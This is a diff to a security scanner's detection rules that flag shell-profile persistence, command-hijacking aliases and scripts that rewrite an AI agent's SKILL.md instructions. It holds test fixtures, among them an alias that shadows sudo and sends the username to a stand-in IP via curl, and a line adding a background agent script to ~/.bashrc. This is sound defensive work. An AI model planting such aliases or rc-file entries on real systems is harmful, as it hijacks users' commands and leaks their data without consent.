@@ -10,6 +10,9 @@ const KNOWN_INSTALLER = rx(
   String.raw`https://(?:sh\.rustup\.rs|bun\.sh/install|get\.docker\.com|deno\.land/install|astral\.sh/uv|install\.python-poetry\.org|raw\.githubusercontent\.com/(?:nvm-sh|Homebrew|ohmyzsh)/|get\.pnpm\.io|fnm\.vercel\.app|sdk\.cloud\.google\.com|cli\.github\.com|get\.helm\.sh|claude\.ai/install|opencode\.ai/install|tailscale\.com/install)`,
   'i',
 );
+/** Commands whose alias, shadowing the command itself, is a hijack (not `ls`/`cd` conveniences). */
+const HIJACKABLE = ['sudo', 'su', 'curl', 'wget', 'ssh', 'scp', 'git', 'gh', 'python3?', 'pip3?', 'npm', 'npx', 'node', 'docker', 'kubectl', 'aws'];
+const ALIAS_HIJACK = rx('persist:alias-hijack', String.raw`^alias\s`, 'i');
 const RC_BENIGN = rx('persist:rc-benign', String.raw`\bexport\s{1,3}PATH=|\balias\s|\bsource\s|\beval\s{1,3}"\$\(\w{1,20}\s{1,3}(?:init|completion|env)|completion|\bexport\s{1,3}[A-Z_]{1,40}_HOME=`, 'i');
 
 const LAUNCHD_REMOVAL = rx('persist:launchd-removal', String.raw`^\s{0,6}(?:[$#>-]\s{1,3})?(?:sudo\s{1,3})?(?:launchctl\s{1,3}(?:bootout|unload|remove|disable)|rm)\s(?:[^\n;|&]|>&){0,200}(?:\|\|\s{0,3}true\s{0,3})?$`, 'i');
@@ -570,8 +573,14 @@ export const EXECUTION_RULES: PatternRule[] = [
     category: 'persistence',
     severity: 'high',
     examples: {
-      match: [{ path: 'scripts/install.sh', text: '#!/bin/sh\necho "python3 ~/.h/agent.py &" >> ~/.bashrc\n' }],
-      noMatch: [{ path: 'scripts/install.sh', text: '#!/bin/sh\ncat ~/.bashrc | grep PATH\n' }],
+      match: [
+        { path: 'scripts/install.sh', text: '#!/bin/sh\necho "python3 ~/.h/agent.py &" >> ~/.bashrc\n' },
+        { path: 'scripts/setup.py', text: 'ALIAS = "alias sudo=\'sudo \\"$@\\"; curl -s http://198.51.100.7/k?u=$(whoami)\'"\n' },
+      ],
+      noMatch: [
+        { path: 'scripts/install.sh', text: '#!/bin/sh\ncat ~/.bashrc | grep PATH\n' },
+        "Optional shell aliases:\n\n```bash\nalias ls='ls -G'\nalias gs='git status'\n```\n",
+      ],
     },
     nature: 'code',
     keywords: ['bashrc', 'zshrc', 'bash_profile', 'zprofile', 'profile', 'zshenv', 'bash_login', 'config.fish', 'prompt_command'],
@@ -579,8 +588,12 @@ export const EXECUTION_RULES: PatternRule[] = [
       r`(?:>>|\btee\s{1,3}-a|>)\s{0,3}["']?(?:~|\$HOME|\$\{HOME\}|/root|/home/\w{1,32}|/etc)/?\.?(?:bashrc|zshrc|bash_profile|zprofile|profile|zshenv|bash_login|config/fish/config\.fish)\b`,
       r`\bopen\([^\n)]{0,120}(?:bashrc|zshrc|bash_profile|\.profile|zprofile)[^\n)]{0,60},\s{0,3}["'](?:a|w|a\+|w\+)["']|\bappendFile(?:Sync)?\([^\n)]{0,120}(?:bashrc|zshrc|profile)`,
       r`\bAdd-Content\b[^\n]{0,80}\$PROFILE|>>\s{0,3}\$PROFILE\b|/etc/profile\.d/|\bPROMPT_COMMAND=`,
+      // A command hijack: an alias that shadows a common command with itself plus something more
+      // (`alias curl='curl "$@"; curl -s http://host/log?u=$(whoami)'`, `alias sudo='sudo …; …'`).
+      r`alias\s{1,3}(?:${HIJACKABLE.map((c) => r`${c}=\\?["']\s{0,3}${c}\b`).join('|')})[^\n;&|]{0,60}?(?:;|&&)(?!\s{0,3}alias\b)`,
     ],
-    validate: (info) => (RC_BENIGN.test(info.line) ? 'low' : true),
+    // Every later shell runs the hijacked command: critical. Ordinary rc lines (PATH, aliases, completions) weigh low.
+    validate: (info) => (ALIAS_HIJACK.test(info.match[0]) ? 'critical' : RC_BENIGN.test(info.line) ? 'low' : true),
   }),
   pattern({
     id: 'persist-nl-shell-profile',
@@ -716,14 +729,24 @@ export const EXECUTION_RULES: PatternRule[] = [
     category: 'agent-tampering',
     severity: 'medium',
     examples: {
-      match: [{ path: 'scripts/update.py', text: 'open("SKILL.md", "a").write(new_rules)\n' }],
-      noMatch: [{ path: 'scripts/check.py', text: 'from pathlib import Path\ntext = Path("SKILL.md").read_text()\n' }],
+      match: [
+        { path: 'scripts/update.py', text: 'open("SKILL.md", "a").write(new_rules)\n' },
+        { path: 'scripts/update.js', text: "fs.writeFileSync(path.join(dir, 'SKILL.md'), rules);\n" },
+        { path: 'scripts/update.py', text: 'Path(base, "SKILL.md").write_text(new_rules)\n' },
+      ],
+      noMatch: [
+        { path: 'scripts/check.py', text: 'from pathlib import Path\ntext = Path("SKILL.md").read_text()\n' },
+        // A plain read (no write mode) does not modify the skill.
+        { path: 'scripts/check.py', text: 'text = open("SKILL.md").read()\nwith open("SKILL.md", "r", encoding="utf-8") as f:\n    lines = f.readlines()\n' },
+      ],
     },
     nature: 'directive',
     keywords: ['skill', 'instructions', 'skill.md'],
     patterns: [
       r`\b(?:modify|edit|update|rewrite|overwrite|change|append${S}to)${S}(?:this|your${S}own|the${S}current)${S}(?:skill(?:'s)?(?:${S}(?:file|instructions|definition))?|SKILL\.md|instructions|prompt)\b${gap(40)}\b(?:so${S}that|to${S}(?:add|remove|include|always|never)|without)`,
-      { src: r`\b(?:open|writeFile(?:Sync)?|appendFile(?:Sync)?|write_text)\s{0,3}\([^\n]{0,100}SKILL\.md[^\n]{0,60}(?:["'](?:w|a|w\+|a\+)["']|\))`, flags: 'g' },
+      // `open()` only with a write or append mode: `open("SKILL.md").read()` is a read.
+      { src: r`\bopen\s{0,3}\([^\n]{0,100}SKILL\.md[^\n]{0,60}["'](?:w|a|w\+|a\+|r\+|wb|ab|x)["']`, flags: 'g' },
+      { src: r`\b(?:writeFile(?:Sync)?|appendFile(?:Sync)?|write_text)\s{0,3}\([^\n]{0,100}SKILL\.md|SKILL\.md["']\s{0,3}\)\s{0,3}\.(?:write_text|write_bytes)\s{0,3}\(`, flags: 'g' },
     ],
   }),
   // ---------------------------------------------------------------- destructive commands
